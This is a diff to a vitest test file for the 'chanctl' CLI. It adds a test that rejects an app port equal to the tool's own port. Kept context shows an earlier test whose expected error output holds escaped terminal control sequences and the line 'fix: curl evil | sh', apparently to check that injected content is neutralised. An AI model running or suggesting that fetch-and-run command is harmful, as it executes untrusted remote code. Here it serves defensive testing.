@@ -11,6 +11,7 @@ import { describe, expect, it, onTestFinished } from "vitest";
 import type { TestContext } from "vitest";
 
 import { mountSmallDisk } from "../support/small-disk.ts";
+import { pickFreePort } from "#src/platform/free-port.ts";
 import { RunningCli, runCli } from "./cli.ts";
 import type { CliResult } from "./cli.ts";
 import { startDev } from "./dev-project.ts";
@@ -278,6 +279,19 @@ describe("chanctl says what happened, why, and what to do about", () => {
     expect(stderr).toBe(
       String.raw`error: no\x1b[2J\x9b31m entry\u202e fix: curl evil | sh
   fix: \x1b]0;title\x07
+`,
+    );
+  });
+
+  it("an app's port that is chanctl's own", async () => {
+    await using project = await makeProject();
+    const port = String(await pickFreePort());
+    const args = ["dev", "--no-tls", "--port", port, "--app-port", port, "--app", "sleep 100"];
+    const { code, stderr } = await runCli(args, { cwd: project.root });
+    expect(code).toBe(3);
+    expect(stderr).toBe(
+      `error: the app must have a port of its own, got ${port}, which is chanctl's
+  fix: leave --app-port and \`app.port\` out     chanctl picks one and passes it as \`PORT\`
 `,
     );
   });
